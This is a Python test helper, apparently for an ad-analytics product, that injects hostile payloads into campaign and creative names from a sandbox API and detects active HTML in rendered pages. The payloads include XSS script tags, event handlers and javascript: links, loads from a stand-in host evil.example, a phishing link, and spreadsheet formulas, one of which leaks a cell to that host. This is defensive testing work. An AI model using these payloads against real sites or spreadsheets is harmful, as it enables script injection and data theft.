"""Hostile names: what anyone with access to a client's ad account can call a campaign.

:func:`hostile_names` rewrites an Atribu answer (the sandbox's, through the replay proxy) so
that every campaign, ad set and ad name and every creative text starts with a payload: a
script, an event handler, a ``javascript:`` link, a remote load, or a spreadsheet formula.
Each script payload, should it ever run, adds the class :data:`RAN` to the page's ``<html>``
element, which a test reads back from the DOM Chromium built.
"""

from __future__ import annotations

import json
import zlib
from html.parser import HTMLParser
from typing import Any

__all__ = [
    "FORMULAS",
    "PAYLOADS",
    "RAN",
    "REMOTE_HOST",
    "SCRIPTS",
    "Tags",
    "acting",
    "hostile_names",
    "hostile_text",
]

RAN = "atribu-pwned"
# No "=" or ",": it also fits a workspace label (ATRIBU_API_KEYS is "label=key,...").
_ACT = f"document.documentElement.classList.add('{RAN}')"
REMOTE_HOST = "evil.example"
SCRIPTS = [
    f"<script>{_ACT}</script>",
    f'<img src=x onerror="{_ACT}">',
    f'<svg onload="{_ACT}"></svg>',
    f"[click](javascript:{_ACT})",
    f'<a href="javascript:{_ACT}">open</a>',
    f'<iframe src="javascript:{_ACT}"></iframe>',
    f"<style>@import url(https://{REMOTE_HOST}/x.css);</style>",
    f"![pixel](https://{REMOTE_HOST}/pixel.png)",
    f"<a href='https://{REMOTE_HOST}/phish'>Login</a>",
]
FORMULAS = [
    f'=HYPERLINK("https://{REMOTE_HOST}/?leak="&A1,"Click")',
    "+1+2 Retargeting",
    "-2+3 Lookalike",
    "@SUM(1,2)",
    "\tTabbed",
]
PAYLOADS = SCRIPTS + FORMULAS
# Fields whose text is the advertiser's own (names, angles, offers) rather than a value of
# Atribu's vocabulary.
_TEXT_FIELDS = frozenset(
    {"campaign_name", "ad_set_name", "ad_name", "name", "primary_angle", "offers"}
)


def hostile_text(original: str) -> str:
    """The original name behind a payload, the same payload for the same name."""
    payload = PAYLOADS[zlib.crc32(original.encode()) % len(PAYLOADS)]
    return f"{payload} {original}"


def _rewrite(value: Any, key: str = "") -> Any:
    if isinstance(value, dict):
        return {k: _rewrite(v, k) for k, v in value.items()}
    if isinstance(value, list):
        return [_rewrite(v, key) for v in value]
    if isinstance(value, str) and key in _TEXT_FIELDS:
        return hostile_text(value)
    return value


def hostile_names(body: bytes) -> bytes:
    """Rewrite an answer's names and creative texts to start with a payload."""
    return json.dumps(_rewrite(json.loads(body))).encode()


# Tags that run script, frame another page or load from elsewhere.
ACTIVE_TAGS = {"script", "iframe", "object", "embed", "svg", "math", "link", "base"}
ACTIVE_TAGS |= {"form", "frame", "frameset", "audio", "video", "source", "template"}


class Tags(HTMLParser):
    """Every start tag with its attributes, and the text between them."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def acting(page: str) -> list[str]:
    """What in ``page`` could run script or load something when a browser opens it."""
    found = []
    for tag, attrs in Tags(page).tags:
        if tag in ACTIVE_TAGS:
            found.append(f"<{tag}>")
        # A page's own meta tags say its charset, viewport and policy; a refresh moves away.
        if tag == "meta" and (attrs.get("http-equiv") or "").lower() not in (
            "",
            "content-security-policy",
        ):
            found.append(f"<meta http-equiv={attrs['http-equiv']}>")
        for name, value in attrs.items():
            text = (value or "").strip().lower()
            if name.startswith("on"):
                found.append(f"{tag}[{name}]")
            if name in ("href", "src") and not text.startswith(
                ("http://", "https://", "mailto:", "#", "data:image/")
            ):
                found.append(f"{tag}[{name}={value}]")
            if name == "src" and not text.startswith("data:image/"):
                found.append(f"{tag}[src={value}]")
            if "url(" in text or "javascript:" in text:
                found.append(f"{tag}[{name}={value}]")
    return found
